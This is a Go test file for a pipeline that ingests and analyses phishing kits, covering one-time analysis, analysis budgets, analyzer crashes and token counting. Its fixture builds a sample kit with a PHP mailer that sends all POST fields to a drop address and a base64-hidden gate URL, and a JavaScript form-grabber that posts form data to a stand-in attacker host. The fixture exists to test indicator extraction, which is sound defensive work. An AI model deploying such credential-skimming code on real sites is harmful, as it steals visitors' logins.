package ingest

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"sync"
	"testing"
	"time"

	"dewar/cas"
	"dewar/gateway/analyze"
	"dewar/index"
)

// analyzerCounter is an analyze.Func that counts runs per file content,
// optionally crashing on files containing a marker.
type analyzerCounter struct {
	mu    sync.Mutex
	runs  map[string]int // sha256 hex -> runs
	total int
	crash []byte
}

func (c *analyzerCounter) fn(ctx context.Context, r io.Reader, mimeHint string) (index.Analysis, error) {
	b, err := io.ReadAll(r)
	if err != nil {
		return index.Analysis{}, err
	}
	c.mu.Lock()
	if c.runs == nil {
		c.runs = map[string]int{}
	}
	c.runs[sum(b)]++
	c.total++
	crash := c.crash != nil && bytes.Contains(b, c.crash)
	c.mu.Unlock()
	if crash {
		panic("decoder tripped over crafted input")
	}
	return analyze.Analyze(ctx, bytes.NewReader(b), mimeHint, analyze.Options{})
}

func (c *analyzerCounter) count() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.total
}

// kitFiles are a small kit: a mailer with planted indicators, a page, a
// script, and the same script again under another name.
func kitFiles(tag string) map[string][]byte {
	php := fmt.Sprintf(`<?php
$to = "drop%s@evil-mail.example";
$gate = base64_decode("aHR0cHM6Ly9jb2xsZWN0LmV2aWwuZXhhbXBsZS9nYXRlLnBocA==");
foreach ($_POST as $k => $v) { $msg .= "$k: $v\n"; }
mail($to, "login", $msg);
file_get_contents($gate . "?d=" . urlencode($msg));
header("Location: https://bank.example/");
`, tag)
	js := `document.getElementById("f").addEventListener("submit", function(e){ fetch("https://js.evil.example/b", {method:"POST", body:new FormData(e.target)}); });`
	return map[string][]byte{
		"kit/post.php":        []byte(php),
		"kit/index.html":      []byte(`<html><body><form id="f" action="post.php" method="post"><input name="passwd" type="password"></form><script src="js/a.js"></script></body></html>`),
		"kit/js/a.js":         []byte(js),
		"kit/js/copy-of-a.js": []byte(js),
	}
}

func zipOf(t *testing.T, files map[string][]byte) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for name, body := range files {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(body)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func refOf(t *testing.T, b []byte) cas.Ref {
	t.Helper()
	r, err := cas.Parse(sum(b))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func (e *env) analysis(ref cas.Ref) (index.Analysis, error) {
	return e.idx.GetAnalysis(context.Background(), ref)
}

// TestAnalysesRecordedOnce: a job's files and its upload get their
// analyses with the job; the upload (an archive) gets the fuzzy hashes
// only; re-ingesting the same archive analyses nothing; a second archive
// sharing files analyses only its new ones.
func TestAnalysesRecordedOnce(t *testing.T) {
	e := newEnv(t)
	c := &analyzerCounter{}
	e.start(e.runner(Options{Analyze: c.fn}))
	files := kitFiles("1")
	upload := zipOf(t, files)
	j := e.submit("kit.zip", upload, false)
	if got := e.wait(j.ID)[j.ID]; got.Status != index.JobDone {
		t.Fatalf("job %s: %s", got.Status, got.Error)
	}
	// 3 distinct files + the upload, each analysed once.
	if c.count() != 4 {
		t.Fatalf("%d analyses, want 4: %v", c.count(), c.runs)
	}
	a, err := e.analysis(refOf(t, files["kit/post.php"]))
	if err != nil {
		t.Fatal(err)
	}
	chains := map[string]string{}
	for _, x := range a.IOCs {
		chains[x.Value] = x.Chain
	}
	if chains["https://collect.evil.example/gate.php"] != "base64" || chains["drop1@evil-mail.example"] != "" {
		t.Errorf("IOCs of post.php: %+v", a.IOCs)
	}
	if a.Language != "php" || len(a.Tokens) == 0 || a.SSDeep == "" || !mapsEqual(a.Versions, analyze.Versions()) {
		t.Errorf("analysis of post.php: %+v", a)
	}
	up, err := e.analysis(refOf(t, upload))
	if err != nil {
		t.Fatal(err)
	}
	if up.SSDeep == "" || up.TLSH == "" || len(up.Tokens) != 0 || len(up.IOCs) != 0 {
		t.Errorf("analysis of the upload (an archive): %+v", up)
	}

	// The same archive again: nothing to analyse.
	j2 := e.submit("again.zip", upload, false)
	if got := e.wait(j2.ID)[j2.ID]; got.Status != index.JobDone {
		t.Fatalf("re-ingest: %s %s", got.Status, got.Error)
	}
	if c.count() != 4 {
		t.Fatalf("re-ingesting ran %d more analyses", c.count()-4)
	}

	// A variant: one changed file and a new upload.
	files["kit/post.php"] = kitFiles("2")["kit/post.php"]
	j3 := e.submit("variant.zip", zipOf(t, files), false)
	if got := e.wait(j3.ID)[j3.ID]; got.Status != index.JobDone {
		t.Fatalf("variant: %s %s", got.Status, got.Error)
	}
	if c.count() != 6 {
		t.Fatalf("variant ran %d analyses, want 2 (the new file and the upload)", c.count()-4)
	}
}

// TestSingleFileAnalysed: a job that is one file gets that file's full
// analysis.
func TestSingleFileAnalysed(t *testing.T) {
	e := newEnv(t)
	e.start(e.runner(Options{}))
	body := kitFiles("x")["kit/post.php"]
	j := e.submit("post.php", body, false)
	if got := e.wait(j.ID)[j.ID]; got.Status != index.JobDone {
		t.Fatalf("%s %s", got.Status, got.Error)
	}
	a, err := e.analysis(refOf(t, body))
	if err != nil || a.Language != "php" || len(a.IOCs) == 0 {
		t.Fatalf("%+v %v", a, err)
	}
}

// TestAnalysisBudget: over the budget, files are analysed after Finish,
// each once, and every file ends up with its analysis.
func TestAnalysisBudget(t *testing.T) {
	e := newEnv(t)
	c := &analyzerCounter{}
	e.start(e.runner(Options{Analyze: c.fn, AnalysisBudget: 1}))
	files := kitFiles("b")
	upload := zipOf(t, files)
	j := e.submit("kit.zip", upload, false)
	if got := e.wait(j.ID)[j.ID]; got.Status != index.JobDone {
		t.Fatalf("%s %s", got.Status, got.Error)
	}
	refs := []cas.Ref{refOf(t, upload)}
	for _, b := range files {
		refs = append(refs, refOf(t, b))
	}
	deadline := time.Now().Add(time.Minute)
	for _, ref := range refs {
		for {
			_, err := e.analysis(ref)
			if err == nil {
				break
			}
			if !errors.Is(err, index.ErrAnalysisNotFound) || time.Now().After(deadline) {
				t.Fatalf("analysis of %s: %v", ref, err)
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	if c.count() != 4 {
		t.Fatalf("%d analyses, want 4", c.count())
	}
}

// TestAnalyzerCrash: an analyzer crashing on one file leaves that file
// unanalysed with a warning on the job, which still succeeds; the next
// ingestion of the file analyses it.
func TestAnalyzerCrash(t *testing.T) {
	e := newEnv(t)
	c := &analyzerCounter{crash: []byte("drop")}
	stop := e.start(e.runner(Options{Analyze: c.fn}))
	files := kitFiles("c")
	j := e.submit("kit.zip", zipOf(t, files), false)
	got := e.wait(j.ID)[j.ID]
	if got.Status != index.JobDone || !anyContains(got.Warnings, "analyzer crashed") {
		t.Fatalf("job %s, warnings %q", got.Status, got.Warnings)
	}
	php := refOf(t, files["kit/post.php"])
	if _, err := e.analysis(php); !errors.Is(err, index.ErrAnalysisNotFound) {
		t.Fatalf("crashed file has an analysis: %v", err)
	}
	if _, err := e.analysis(refOf(t, files["kit/index.html"])); err != nil {
		t.Fatalf("other files must be analysed: %v", err)
	}
	stop()

	// Fixed analyzer, same file in a new job: now it is analysed, and
	// only it (plus the new upload).
	c2 := &analyzerCounter{}
	e.start(e.runner(Options{Analyze: c2.fn}))
	j2 := e.submit("post.php", files["kit/post.php"], false)
	if got := e.wait(j2.ID)[j2.ID]; got.Status != index.JobDone {
		t.Fatalf("%s %s", got.Status, got.Error)
	}
	if _, err := e.analysis(php); err != nil {
		t.Fatalf("known file without analysis not analysed on re-ingest: %v", err)
	}
	if c2.count() != 1 {
		t.Fatalf("%d analyses, want 1", c2.count())
	}
}

func mapsEqual(a, b map[string]int) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if w, ok := b[k]; !ok || w != v {
			return false
		}
	}
	return true
}

// TestRecordSize: the estimate grows with what a record holds.
func TestRecordSize(t *testing.T) {
	small := recordSize(index.Analysis{SSDeep: "3:a:a"})
	big := recordSize(index.Analysis{Tokens: []string{"aaaa", "bbbb"}, IOCs: []index.IOC{{Type: "url", Value: "http://x/"}}})
	if small <= 0 || big <= small {
		t.Fatalf("sizes %d, %d", small, big)
	}
}

// TestTokensCountedAfterJob: the worker counts a done job's tokens after
// its result, including the files analysed after Finish (over the
// budget), once per job.
func TestTokensCountedAfterJob(t *testing.T) {
	e := newEnv(t)
	e.start(e.runner(Options{AnalysisBudget: 1}))
	files := kitFiles("t")
	upload := zipOf(t, files)
	ref := refOf(t, files["kit/post.php"])
	waitCount := func(want int64) {
		t.Helper()
		deadline := time.Now().Add(time.Minute)
		for {
			a, err := e.analysis(ref)
			if err == nil && len(a.Tokens) > 0 {
				f, err := e.idx.TokenFrequencies(t.Context(), a.Tokens[:1])
				if err != nil {
					t.Fatal(err)
				}
				if f[0].Jobs == want {
					return
				}
				if f[0].Jobs > want {
					t.Fatalf("token %q in %d jobs, want %d", f[0].Token, f[0].Jobs, want)
				}
			}
			if time.Now().After(deadline) {
				t.Fatalf("token job count never reached %d (analysis: %v)", want, err)
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	for i := range 2 {
		j := e.submit("kit.zip", upload, false)
		if got := e.wait(j.ID)[j.ID]; got.Status != index.JobDone {
			t.Fatalf("%s %s", got.Status, got.Error)
		}
		waitCount(int64(i + 1))
	}
	time.Sleep(50 * time.Millisecond) // a second count of either job would show now
	waitCount(2)
}
